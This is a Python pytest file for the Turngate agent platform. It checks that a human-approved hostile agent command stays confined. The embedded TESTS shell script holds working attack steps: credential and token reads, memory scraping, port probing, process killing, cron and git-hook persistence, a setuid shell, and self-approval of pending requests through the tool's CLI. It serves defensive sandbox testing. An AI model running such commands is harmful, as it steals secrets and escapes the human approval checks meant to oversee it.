"""I13 from outside: an agent whose hostile command a person approved, against the real programs."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import make_url
from support.programs.terminal_process import TURNGATE, Background, turngate
from support.stores.postgres_server import PostgresServer

from turngate.runtime import embedded_temporal
from turngate.runtime.locations import RunningStack

ROOT = Path(__file__).parents[2]
PASSWORD = "the-password-of-the-database"

APP = """\
from turngate import Agent, App
from turngate.toolkits.coding import coding_toolkit

app = App(agents=[Agent(name="coder", instructions="Test.", toolkit=coding_toolkit(), model="scripted:coder.yaml")])
"""

SCRIPT = """\
responses:
  - text: I run the tests and tidy up.
    calls:
      - {tool: bash, input: {command: sh tests.sh, timeout_seconds: 120}}
      - {tool: bash, input: {command: touch taken}}
  - text: Done.
"""

# It knows everything but the secrets: where they are, who listens where, and how Turngate's own programs are called.
TESTS = """\
exec > loot.txt 2>&1
cat {data_dir}/token {data_dir}/* /proc/self/root{data_dir}/token
cp -r {data_dir} copy; cat copy/*
for process in /proc/[0-9]*; do cat $process/environ $process/cmdline; done | tr '\\0' '\\n'
export TURNGATE_DATA_DIR={data_dir}
PYTHONPATH=lib {python} - <<'END'
from pathlib import Path
from turngate.cli.main import app
decides = "decide " + Path("request").read_text() + " approve"
for words in ("requests", decides, "token add thief --scope requests:decide", "login-link"):
    try:
        app(words.split())
    except (Exception, SystemExit) as error:
        print("turngate", words, error)
END
python3 - <<'END'
import re, socket
from pathlib import Path
for maps in Path("/proc").glob("[0-9]*/maps"):
    try:
        with open(maps.with_name("mem"), "rb") as memory:
            for line in maps.read_text().splitlines():
                start, end = (int(each, 16) for each in line.split()[0].split("-"))
                memory.seek(start)
                print(*re.findall(rb"tg_[\\w-]{{20,}}|postgresql://[!-~]+", memory.read(min(end - start, 1 << 24))))
    except (OSError, OverflowError, ValueError) as error:
        print(error)
for host, port in {targets}:
    try:
        with socket.create_connection((host, port), 3) as connection:
            connection.sendall(b"GET /api/v1/requests HTTP/1.0\\r\\n\\r\\n")
            print("REACHED", port, connection.recv(1000))
    except OSError as error:
        print(error)
for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
    name = line.split()[-1]
    if name.startswith(("@", "/")):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(name.replace("@", "\\0", 1))
                print("REACHED", name)
        except OSError as error:
            print(error)
END
python3 - {pids} <<'END'
import ctypes, fcntl, os, resource, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
reading, writing = os.pipe()
for victim in map(int, sys.argv[1:]):
    for attack in (
        lambda: print("TRACED" if libc.ptrace(0x4206, victim, 0, 0) == 0 else "not traced"),
        lambda: os.kill(victim, signal.SIGKILL),
        lambda: signal.pidfd_send_signal(os.pidfd_open(victim), signal.SIGKILL),
        lambda: (fcntl.fcntl(reading, fcntl.F_SETOWN, victim), fcntl.fcntl(reading, 10, signal.SIGKILL),
                 fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC), os.write(writing, b"x")),
        lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (0, 0)),
        lambda: resource.prlimit(victim, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
    ):
        try:
            attack()
        except OSError as error:
            print(error)
END
cat /dev/shm/* /dev/mqueue/*; ipcs -m
busctl --user list; systemd-run --user touch {directory}/by-systemd
gdbus call --session --dest org.freedesktop.DBus --object-path / --method org.freedesktop.DBus.ListNames
for place in /etc/cron.d/agent /var/spool/cron/crontabs/root /etc/profile.d/agent.sh /proc/sys/kernel/core_pattern \\
    ~/.bashrc /root/.bashrc.agent $(echo $PATH | tr : ' ' | sed 's|[^ ]*|&/git-agent|g'); do
    echo "touch {directory}/by-someone" >> $place
done
echo "* * * * * touch {directory}/by-cron" | crontab -; echo "touch {directory}/by-at" | at now
cp /bin/sh shell; chmod 4755 shell; ./shell -p -c 'cat {data_dir}/token'
su -c 'cat {data_dir}/token'; sudo -n cat {data_dir}/token
mv .git old; cp -r old .git; echo "touch {directory}/by-git" > .git/hooks/post-index-change; chmod +x .git/hooks/*
git config core.fsmonitor "touch {directory}/by-git"
(env -i setsid sh -c 'sleep 3; cat {data_dir}/token > {directory}/late; touch {directory}/late' > /dev/null 2>&1 &)
kill -9 $PPID
echo finished
"""


@dataclass
class Deployment:
    """The programs that run, the directory where they were started, and what the command looks for."""

    directory: Path
    data_dir: Path
    backend: str
    ports: list[int]
    pids: list[int]
    secrets: list[str]
    environment: dict[str, str]

    def turngate(self, *arguments: str) -> str:
        ended = turngate(*arguments, cwd=self.directory, **self.environment)
        assert ended.returncode == 0, ended.stderr
        return ended.stdout


def without_bubblewrap(place: Path) -> str:
    """Return a PATH with every program but bubblewrap, which can't work here, as where user namespaces are forbidden."""
    place.mkdir()
    for directory in map(Path, os.environ["PATH"].split(os.pathsep)):
        for program in directory.iterdir() if directory.is_dir() else ():
            if not os.path.lexists(place / program.name):
                (place / program.name).symlink_to(program)
    (place / "bwrap").unlink()
    (place / "bwrap").write_text("#!/bin/sh\nexit 1\n")
    (place / "bwrap").chmod(0o755)
    return str(place)


@pytest.fixture(
    params=[
        "up, bubblewrap",
        "separate processes, landlock",
        pytest.param("up, landlock", marks=pytest.mark.exhaustive),
        pytest.param("separate processes, bubblewrap", marks=pytest.mark.exhaustive),
    ],
)
def deployment(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Deployment]:
    """`turngate up` with SQLite, or a program each with PostgreSQL and its URL in the environment; how tools are confined."""
    programs, backend = request.param.split(", ")
    directory, data_dir = tmp_path / "project", tmp_path / "data"
    directory.mkdir()
    # The agent has brought Turngate's code along: what its commands import is nowhere else that a tool can read.
    shutil.copytree(ROOT / "turngate", directory / "lib" / "turngate")
    subprocess.run(["git", "init", "-q", directory], check=True)
    (directory / "hostile_app.py").write_text(APP)
    (directory / "coder.yaml").write_text(SCRIPT)
    port = embedded_temporal.choose_port()
    environment = {"TURNGATE_DATA_DIR": str(data_dir), "TURNGATE_API_PORT": str(port)}
    if backend == "landlock":
        environment["PATH"] = without_bubblewrap(tmp_path / "bin")
    ports, pids, secrets = [port], [], []
    with ExitStack() as parts:

        def start(*arguments: str, ready: str) -> None:
            # The environment of a program that is executed is in /proc: that of what tools are started by, at least.
            executed = TURNGATE if arguments[0] == "worker" else None
            program = Background(*arguments, cwd=directory, program=executed, **environment)
            parts.callback(program.stop)
            program.wait_for(ready)
            pids.append(program.process.pid)

        if programs == "up":
            start("up", "hostile_app:app", ready="Start a run")
        else:
            server: PostgresServer = request.getfixturevalue("postgres")
            url = make_url(server.fresh_url()).set(password=PASSWORD)
            assert url.port is not None
            environment["TURNGATE_DATABASE_URL"] = url.set(drivername="postgresql").render_as_string(
                hide_password=False
            )
            environment["TURNGATE_WORKSPACES"] = str(directory)
            secrets.append(PASSWORD)
            ports.append(url.port)
            turngate("migrate", cwd=directory, **environment)
            start("temporal", ready="Temporal serves")
            start("api", "hostile_app:app", ready="API serves")
            start("worker", "hostile_app:app", ready="worker runs")
        running = RunningStack.read(data_dir)
        assert running is not None
        ports.append(int(running.temporal_address.rpartition(":")[2]))
        secrets.append((data_dir / "token").read_text().strip())
        yield Deployment(directory, data_dir, backend, ports, pids, secrets, environment)


def test_i13_an_approved_hostile_command_reads_no_credential_and_decides_nothing(deployment: Deployment) -> None:
    """Each strategy of its script fails; the request beside it still waits, and the deployment still works."""
    directory = deployment.directory
    targets = [(host, port) for port in deployment.ports for host in ("127.0.0.1", "localhost", "10.0.2.2")]
    # Written before the request is opened: a script that changes after that is asked about again.
    (directory / "tests.sh").write_text(
        TESTS.format(
            data_dir=deployment.data_dir,
            directory=directory,
            python=sys.executable,
            targets=targets,
            pids=" ".join(map(str, deployment.pids)),
        )
    )
    deployment.turngate("run", "Run the tests.", "--agent", "coder", "--workspace", ".", "--no-watch")
    requests: list[dict[str, str]] = []
    while len(requests) < 2:
        requests = json.loads(deployment.turngate("requests", "--json"))
    hostile, other = (item["id"] for item in sorted(requests, key=lambda item: item["tool_call_id"]))
    doctor = turngate("doctor", cwd=directory, **deployment.environment).stdout
    assert f"confinement of tools' processes: {deployment.backend}" in doctor
    (directory / "request").write_text(other)
    deployment.turngate("decide", hostile, "approve")
    loot = directory / "loot.txt"
    until = time.monotonic() + 150
    while not (loot.exists() and "finished" in loot.read_text(errors="replace")):
        assert time.monotonic() < until
        time.sleep(0.05)
    taken = loot.read_text(errors="replace")
    for secret in deployment.secrets:
        assert secret not in taken
    assert "turngate login-link" in taken, "its script didn't try Turngate's own commands"
    assert "REACHED" not in taken
    assert "TRACED" not in taken
    waiting = json.loads(deployment.turngate("requests", "--json"))
    assert [item["id"] for item in waiting] == [other]
    assert not (directory / "taken").exists()
    assert "thief" not in deployment.turngate("token", "list")
    assert not (directory / "shell").stat().st_mode & 0o6000
    if deployment.backend == "bubblewrap":  # Landlock can't: docs/security.md says so
        subprocess.run(["git", "status"], cwd=directory, check=True, capture_output=True)
    # The next call still runs: nothing was killed or starved; nothing that the first one left still runs, or was run by others.
    deployment.turngate("decide", other, "approve")
    while not (directory / "taken").exists():
        assert time.monotonic() < until
        time.sleep(0.05)
    left = [*directory.glob("by-*"), directory / "late"]
    assert not [path for path in left if path.exists()]
